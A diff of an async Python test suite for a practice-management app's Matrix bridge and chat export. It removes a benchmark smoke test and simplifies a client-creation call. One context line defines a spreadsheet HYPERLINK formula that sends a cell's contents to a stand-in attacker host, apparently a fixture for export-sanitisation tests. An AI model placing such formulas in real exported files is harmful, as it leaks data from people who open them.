@@ -35,7 +35,6 @@ HEADINGS = headings("Europe/Berlin")
 AWAY = "Back on Monday – für Notfälle 112."
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
 V3 = "/_matrix/client/v3"
-ROOT = Path(__file__).resolve().parents[1]
 
 
 # -- helpers -------------------------------------------------------------------------------
@@ -422,17 +421,7 @@ async def test_family_member_rows_days_in_practice_time_and_the_command_line_agr
     api: ApiClient, practice_id: str, bridge: Bridge, homeserver: HomeserverInfo, tmp_path: Path
 ) -> None:
     await api.setup_practice(practice_id, clients=("c2",))
-    r = await api.call(
-        "PUT",
-        f"/practices/{practice_id}/clients/c3",
-        {
-            "name": "Mia Example",
-            "email": "c3@example.com",
-            "activated": True,
-            "portal_access": True,
-            "family_primary_id": "c2",
-        },
-    )
+    r = await api.put_client(practice_id, "c3", name="Mia Example", family_primary_id="c2")
     assert r.status in (200, 201), r.body
     staff = await api.session_for(practice_id, staff_id="s1")
     parent = await api.session_for(practice_id, client_id="c2")
@@ -580,24 +569,3 @@ async def test_bot_export_command_sends_the_file_to_the_private_room_only(
     assert set(sync.body["rooms"]["join"]) == {room}
     (entry,) = await audit_exports(api, practice_id)
     assert (entry["actor"], entry["details"]["via"]) == (staff.user_id, "bot")
-
-
-# -- the benchmark still runs ----------------------------------------------------------------
-
-
-async def test_export_bench_smoke_run_prints_its_table() -> None:
-    """bench/export.py end to end on a tiny chat (its own Synapse); no timing is asserted."""
-    proc = await asyncio.create_subprocess_exec(
-        sys.executable,
-        str(ROOT / "bench" / "export.py"),
-        "--smoke",
-        cwd=ROOT,
-        stdout=asyncio.subprocess.PIPE,
-        stderr=asyncio.subprocess.PIPE,
-    )
-    out, err = await asyncio.wait_for(proc.communicate(), 240)
-    assert proc.returncode == 0, err.decode()[-2000:]
-    lines = out.decode().splitlines()
-    assert lines[0] == "| name | figure | unit | baseline | ratio | target |"
-    assert any(line.startswith("| export 240, xlsx: peak memory") for line in lines)
-    assert any(line.startswith("| export 240: spreadsheet writing side") for line in lines)
